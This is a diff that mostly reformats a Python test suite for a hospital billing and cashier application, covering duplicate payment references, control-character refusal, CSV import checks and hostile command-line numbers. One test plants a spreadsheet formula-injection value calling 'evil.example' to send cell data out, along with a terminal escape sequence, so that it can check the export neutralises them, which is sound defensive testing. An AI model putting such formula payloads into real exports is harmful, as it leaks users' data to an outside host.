@@ -35,11 +35,13 @@ def _pay_one(books, reference: str, method: str = "mobile_money"):
     return pay_items(books, "P1", [item], tender(method, "1000.00", reference))
 
 
-@settings(max_examples=12, deadline=None,
-          suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(
+    max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
 @given(data=st.data(), typed=references, method=st.sampled_from(REFERENCED))
 def test_any_spelling_of_a_used_reference_is_a_duplicate_and_nothing_is_written(
-        books, data, typed, method):
+    books, data, typed, method
+):
     if not books.count("patients"):
         books.patient("P1")
     reference = f"{new_key()[-8:]}{typed}".upper()  # new in every example
@@ -74,10 +76,10 @@ def test_a_reference_is_unique_per_method_and_kept_as_typed(books):
         _pay_one(books, "ａｂ-１２", "card")
     assert [tender.reference for tender in paid.tenders] == ["Ab-12"]
     with books.app.uow(write=False) as uow:
-        keys = uow.execute(select(t.tender_references.c.method,
-                                  t.tender_references.c.reference_key)).all()
-    assert sorted(keys) == [("card", "ab-12"), ("insurance", "ab-12"),
-                            ("mobile_money", "ab-12")]
+        keys = uow.execute(
+            select(t.tender_references.c.method, t.tender_references.c.reference_key)
+        ).all()
+    assert sorted(keys) == [("card", "ab-12"), ("insurance", "ab-12"), ("mobile_money", "ab-12")]
 
 
 def test_a_card_deposit_s_reference_is_used_once_too(books):
@@ -106,31 +108,58 @@ def _typing(books, what: str, text: str, *, receipt_no: str, item: int) -> None:
     elif what == "reference":
         pay_items(books, "P1", [item], tender("card", "1000.00", text))
     elif what == "reversal reason":
-        reversal.reverse_payment(uow, actor=books.supervisor, workstation=ws,
-                                 receipt_no=receipt_no, reason=text, key=key)
+        reversal.reverse_payment(
+            uow, actor=books.supervisor, workstation=ws, receipt_no=receipt_no, reason=text, key=key
+        )
     elif what == "refund request reason":
-        refund_requests.request_refund(uow, actor=books.cashier, workstation=ws,
-                                       receipt_no=receipt_no, reason=text)
+        refund_requests.request_refund(
+            uow, actor=books.cashier, workstation=ws, receipt_no=receipt_no, reason=text
+        )
     elif what == "withdrawal reason":
-        withdraw(uow, actor=books.supervisor, workstation=ws, mrn="P1", amount="10.00",
-                 reason=text, key=key)
+        withdraw(
+            uow,
+            actor=books.supervisor,
+            workstation=ws,
+            mrn="P1",
+            amount="10.00",
+            reason=text,
+            key=key,
+        )
     elif what == "reprint reason":
-        receipts.get_receipt(uow, actor=books.cashier, workstation=ws, receipt_no=receipt_no,
-                             reprint_reason=text)
+        receipts.get_receipt(
+            uow, actor=books.cashier, workstation=ws, receipt_no=receipt_no, reprint_reason=text
+        )
     elif what == "facility name":
-        facility.set_facility(uow, actor=books.admin, workstation=ws, name=text,
-                              currency_code="KES", minor_units=2)
+        facility.set_facility(
+            uow, actor=books.admin, workstation=ws, name=text, currency_code="KES", minor_units=2
+        )
     else:
-        auth.add_user(uow, actor=books.admin, workstation=ws, username="newbie",
-                      role="cashier", password="long enough pass", full_name=text)
+        auth.add_user(
+            uow,
+            actor=books.admin,
+            workstation=ws,
+            username="newbie",
+            role="cashier",
+            password="long enough pass",
+            full_name=text,
+        )
 
 
-@pytest.mark.parametrize("what", ["patient name", "patient phone", "reference",
-                                  "reversal reason", "refund request reason",
-                                  "withdrawal reason", "reprint reason", "facility name",
-                                  "user full name"])
-def test_control_characters_are_refused_where_text_is_typed_and_nothing_is_written(books,
-                                                                                   what):
+@pytest.mark.parametrize(
+    "what",
+    [
+        "patient name",
+        "patient phone",
+        "reference",
+        "reversal reason",
+        "refund request reason",
+        "withdrawal reason",
+        "reprint reason",
+        "facility name",
+        "user full name",
+    ],
+)
+def test_control_characters_are_refused_where_text_is_typed_and_nothing_is_written(books, what):
     books.patient("P1", balance="2000.00")
     first, second = books.bill("P1", ("CONS", 1), ("CONS", 1))
     paid = pay_items(books, "P1", [first], tender("wallet", "1000.00"))
@@ -146,8 +175,14 @@ def test_an_import_line_with_a_control_character_is_a_finding_and_nothing_is_imp
     before = books.snapshot()
     data = f"mrn,name,phone\nA1,Achieng Otieno,0712\nA2,{HOSTILE},0713\n".encode()
     with pytest.raises(InvalidImport) as refused:
-        import_csv(books.app.uow(), actor=books.admin, workstation="WS01", kind="patients",
-                   data=data, source="patients.csv")
+        import_csv(
+            books.app.uow(),
+            actor=books.admin,
+            workstation="WS01",
+            kind="patients",
+            data=data,
+            source="patients.csv",
+        )
     assert [f["line"] for f in refused.value.findings] == [3]
     assert "control character" in refused.value.findings[0]["problem"]
     assert books.snapshot() == before
@@ -155,10 +190,16 @@ def test_an_import_line_with_a_control_character_is_a_finding_and_nothing_is_imp
 
 def test_the_daily_csv_neutralises_formulas_and_strips_old_control_characters(books):
     with books.app.uow() as uow:  # a price list written before input was vetted
-        uow.execute(update(t.services).where(t.services.c.code == "CONS").values(
-            department='=HYPERLINK("http://evil.example/?"&A1,"Click")'))
-        uow.execute(update(t.services).where(t.services.c.code == "LAB").values(
-            department="Lab\x1b[2Joratory"))
+        uow.execute(
+            update(t.services)
+            .where(t.services.c.code == "CONS")
+            .values(department='=HYPERLINK("http://evil.example/?"&A1,"Click")')
+        )
+        uow.execute(
+            update(t.services)
+            .where(t.services.c.code == "LAB")
+            .values(department="Lab\x1b[2Joratory")
+        )
         uow.commit()
     books.patient("P1", balance="5000.00")
     items = books.bill("P1", ("CONS", 1), ("LAB", 1))
@@ -175,21 +216,29 @@ def test_the_daily_csv_neutralises_formulas_and_strips_old_control_characters(bo
     assert report.totals["payments"] == Decimal("1500.00")
 
 
-@pytest.mark.parametrize(("args", "code"), [
-    (["pay", "P1", "--items", "٩", "--tender", "wallet:1000"], "unknown_item"),
-    (["pay", "P1", "--items", "99999999999999999999", "--tender", "wallet:1000"],
-     "unknown_item"),
-    (["pay", "P1", "--items", "1_0", "--tender", "wallet:1000"], "unknown_item"),
-    (["patient", "search", "P", "--limit", "١٠"], "invalid_number"),
-    (["payment", "approve", str(2**63)], "invalid_number"),
-    (["shift", "close", "--denominations", "1000x٣"], "invalid_count"),
-    (["shift", "close", "--card", "100:99999999999999999999"], "invalid_count"),
-    (["wallet", "deposit", "P1", "0,5", "--method", "cash"], "invalid_amount"),
-    (["wallet", "deposit", "P1", "100", "--method", "card", "--reference", "A\x1bp"],
-     "invalid_text"),
-])
+@pytest.mark.parametrize(
+    ("args", "code"),
+    [
+        (["pay", "P1", "--items", "٩", "--tender", "wallet:1000"], "unknown_item"),
+        (
+            ["pay", "P1", "--items", "99999999999999999999", "--tender", "wallet:1000"],
+            "unknown_item",
+        ),
+        (["pay", "P1", "--items", "1_0", "--tender", "wallet:1000"], "unknown_item"),
+        (["patient", "search", "P", "--limit", "١٠"], "invalid_number"),
+        (["payment", "approve", str(2**63)], "invalid_number"),
+        (["shift", "close", "--denominations", "1000x٣"], "invalid_count"),
+        (["shift", "close", "--card", "100:99999999999999999999"], "invalid_count"),
+        (["wallet", "deposit", "P1", "0,5", "--method", "cash"], "invalid_amount"),
+        (
+            ["wallet", "deposit", "P1", "100", "--method", "card", "--reference", "A\x1bp"],
+            "invalid_text",
+        ),
+    ],
+)
 def test_hostile_numbers_on_the_command_line_exit_2_with_a_code_and_no_traceback(
-        books, monkeypatch, capsys, tmp_path, args, code):
+    books, monkeypatch, capsys, tmp_path, args, code
+):
     books.patient("P1")
     monkeypatch.setenv("CARETILL_USER", "supervisor")
     monkeypatch.setenv("CARETILL_PASSWORD", PASSWORD)
